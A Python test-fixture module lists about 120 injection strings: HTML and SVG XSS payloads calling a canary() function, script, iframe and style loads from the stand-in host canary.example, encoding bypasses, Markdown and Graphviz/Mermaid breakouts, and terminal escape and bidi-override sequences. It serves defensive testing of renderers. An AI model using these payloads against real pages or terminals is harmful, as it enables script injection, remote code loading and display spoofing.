"""120 texts that want to be more than text: markup, labels, graphs, terminals. Their scripts call `canary()`."""

from __future__ import annotations

import re
from itertools import product

FAR = "http://canary.example"

_SCRIPTS = (
    "<script>canary()</script>",
    "<ScRiPt >canary()</sCrIpT>",
    "<script/x>canary()</script>",
    "<<script>canary();//<</script>",
    "<script src=//canary.example/x.js></script>",
    "<svg><script>canary()</script></svg>",
    "<svg/onload=canary()>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:canary()'><text>x</text></a></svg>",
    "<img src=x onerror=canary()>",
    "<img/src='x'/onerror='canary()'>",
    "<image src=x onerror=canary()>",
    "<img src='http://canary.example/p.png'>",
    "<img srcset='http://canary.example/p.png 1x'>",
    "<body onload=canary()>",
    "<iframe src='javascript:canary()'></iframe>",
    "<iframe srcdoc='<script>parent.canary()</script>'>",
    "<iframe src=http://canary.example/></iframe>",
    "<object data=http://canary.example/x></object>",
    "<embed src=http://canary.example/x>",
    "<link rel=stylesheet href=http://canary.example/x.css>",
    "<style>@import 'http://canary.example/x.css';</style>",
    "<style>*{background:url(http://canary.example/b)}</style>",
    "<div style='background:url(http://canary.example/d)'>x</div>",
    "<base href=http://canary.example/>",
    "<meta http-equiv=refresh content='0;url=http://canary.example/'>",
    "<a href='javascript:canary()' autofocus onfocus=canary()>x</a>",
    "<input autofocus onfocus=canary()>",
    "<details open ontoggle=canary()>x</details>",
    "<video src=x onerror=canary()></video>",
    "<audio src=x onerror=canary()>",
    "<video><source onerror=canary()></video>",
    "<marquee onstart=canary()>x</marquee>",
    "<form action=javascript:canary()><button>x",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
    "<template><script>canary()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<textarea></textarea><img src=x onerror=canary()>",
)
_BREAKS = (
    "'",
    '"',
    "-->",
    "]]>",
    "</style>",
    "</title>",
    "</textarea>",
    "</pre>",
    "</code>",
    "</svg>",
    "\\",
    "</details>",
)
_BEHIND = ("<img src=x onerror=canary()>", " onmouseover=canary() onload=canary() style=position:fixed;inset:0 x=")
_ENTITIES = (
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;img src=x onerror=canary()&#62;",
    "&amp;lt;script>canary()",
    "&quot; onload=canary()",
    "\\x3cscript\\x3ecanary()\\x3c/script\\x3e",
    "\\u003cimg src=x onerror=canary()\\u003e",
    "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-",
    "%3Cimg src=x onerror=canary()%3E",
    "java\nscript:canary()",
)
_MARKDOWN = (
    "![x](http://canary.example/m.png)",
    "[x](javascript:canary())",
    "<http://canary.example/auto>",
    "[x]: javascript:canary()\n[x]",
    "![x][r]\n\n[r]: http://canary.example/r.png",
    "`</code><img src=x onerror=canary()>`",
    "```\n</pre><script>canary()</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=canary()> |",
    "$\\href{javascript:canary()}{x}$",
    "[x](data:text/html,<script>canary()</script>)",
)
_GRAPHS = (
    '"];evil[label="x',
    '"; evil -> evil2; "',
    "<<b>evil</b>>",
    "<b>evil</b>",
    '"; subgraph cluster_evil { evil } "',
    "\\N\\G\\l\\r\\",
    "a:port:n",
    '" URL="javascript:canary()" x="',
    '" image="http://canary.example/g.png" x="',
    "x|{evil|<p>evil}",
    "}\n evil -> evil2\n{",
    "evil --> evil2",
    '"]\nevil["evil',
    "%%{init: {'securityLevel':'loose'}}%%",
    "click evil call canary()",
    "end\nsubgraph evil",
)
_TERMINALS = (
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://canary.example\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31m",
    "\x1b[2J\x1b[H",
    "\x07\x08\x7f",
    "line\rover",
    "\u202eesrever",
    "\u2066x\u2069",
    "\u200f\u200e\u061c",
    "\x85\u2028\u2029",
    "\ufeff\u2067",
)

TEXTS: tuple[str, ...] = (
    *_SCRIPTS,
    *(before + behind for before, behind in product(_BREAKS, _BEHIND)),
    *_ENTITIES,
    *_MARKDOWN,
    *_GRAPHS,
    *_TERMINALS,
    *(f"plain {number} {each}" for number, each in enumerate(_SCRIPTS[:10])),
)

#: What the library that prints in terminals reads as colours, links and signs.
MARKUP: tuple[str, ...] = (
    "[red]evil[/red]",
    "[link=http://canary.example]evil[/link]",
    "[bold on red]evil",
    "[/]evil",
    "[@click=canary()]evil[/]",
    ":bomb: evil",
    "\\[red]evil",
)
#: What a terminal or the direction of writing obeys; a line's end and a tab are text.
OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
